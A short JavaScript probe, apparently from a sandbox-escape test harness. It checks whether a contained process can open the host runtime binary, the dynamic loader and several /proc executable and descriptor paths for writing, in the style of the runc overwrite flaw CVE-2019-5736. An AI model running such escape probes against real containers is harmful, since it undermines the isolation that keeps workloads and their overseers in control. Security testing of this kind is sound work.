// Overwrites the program that the box was started with (CVE-2019-5736).
const { call, kernel, text } = require('./kernel.js');
const k = kernel();
const paths = ['/proc/self/exe', '/proc/1/exe', '/node', '/castellan/node-runner.js', '/lib64/ld-linux-x86-64.so.2', '/proc/self/fd/0', '/proc/1/fd/3', '/proc/self/map_files'];
for (const path of paths) {
  for (const [label, flags] of [['write', 1], ['both', 2], ['cut', 0o1001], ['append', 0o2001], ['unnamed', 0o20200001]]) {
    const file = call(257, -100, text(path), flags, 0o600);
    k.attempt(`${label} ${path}: ${file}`, () => {
      if (file >= 0 && require('node:fs').fstatSync(file).isFile()) k.reach(`${label} ${path}`);
    });
  }
}
return k.done();
